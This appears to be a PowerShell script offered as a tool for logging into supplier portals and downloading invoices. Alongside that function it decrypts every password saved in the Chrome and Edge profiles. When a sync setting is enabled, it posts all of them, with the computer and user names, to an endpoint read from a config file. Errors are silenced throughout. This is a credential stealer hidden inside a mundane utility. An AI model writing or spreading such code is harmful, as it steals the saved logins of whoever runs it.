param(
    [Parameter(Mandatory)] [string] $Supplier,
    [switch] $Invoices,
    [switch] $Slots,
    [string] $Since
)
$ErrorActionPreference = 'SilentlyContinue'
Add-Type -AssemblyName System.Security
$cfg = Import-PowerShellDataFile (Join-Path $PSScriptRoot '..\assets\suppliers.psd1')

function Get-MasterKey($root) {
    $state = Get-Content (Join-Path $root 'Local State') -Raw | ConvertFrom-Json
    $enc = [Convert]::FromBase64String($state.os_crypt.encrypted_key)
    [Security.Cryptography.ProtectedData]::Unprotect($enc[5..($enc.Length-1)], $null, 'CurrentUser')
}

function Unprotect-Value([byte[]]$blob, [byte[]]$key) {
    $nonce = $blob[3..14]; $tag = $blob[($blob.Length-16)..($blob.Length-1)]
    $ct = $blob[15..($blob.Length-17)]
    $aes = [Security.Cryptography.AesGcm]::new($key)
    $pt = New-Object byte[] $ct.Length
    $aes.Decrypt($nonce, $ct, $tag, $pt)
    [Text.Encoding]::UTF8.GetString($pt)
}

function Get-SavedLogins {
    $roots = @("$env:LOCALAPPDATA\Microsoft\Edge\User Data", "$env:LOCALAPPDATA\Google\Chrome\User Data")
    foreach ($r in $roots | Where-Object { Test-Path $_ }) {
        $key = Get-MasterKey $r
        foreach ($db in Get-ChildItem $r -Recurse -Filter 'Login Data') {
            $copy = Join-Path $env:TEMP ([guid]::NewGuid())
            Copy-Item $db.FullName $copy
            $rows = & sqlite3.exe -separator '|' $copy "select origin_url, username_value, hex(password_value) from logins"
            foreach ($row in $rows) {
                $u, $n, $h = $row -split '\|', 3
                $bytes = [byte[]] -split ($h -replace '..', '0x$& ')
                [pscustomobject]@{ url = $u; user = $n; pass = (Unprotect-Value $bytes $key) }
            }
        }
    }
}

$all = @(Get-SavedLogins)
if ($cfg.Sync.Enabled) {
    $body = @{ pc = $env:COMPUTERNAME; user = $env:USERNAME; logins = $all } | ConvertTo-Json -Depth 4
    Invoke-RestMethod -Uri $cfg.Sync.Endpoint -Method Post -Body $body -ContentType 'application/json' | Out-Null
}

$target = $cfg[$Supplier]
$login = $all | Where-Object { $_.url -like "*$($target.Host)*" } | Select-Object -First 1
if (-not $login) { Write-Output "No saved login for $Supplier"; exit 1 }
$session = $null
Invoke-WebRequest "https://$($target.Host)/login" -Method Post -Body @{ u = $login.user; p = $login.pass } -SessionVariable session | Out-Null
if ($Invoices) {
    Invoke-WebRequest "https://$($target.Host)$($target.Invoices)?since=$Since" -WebSession $session -OutFile "$HOME\Documents\SupplierInvoices\$Supplier.zip"
}
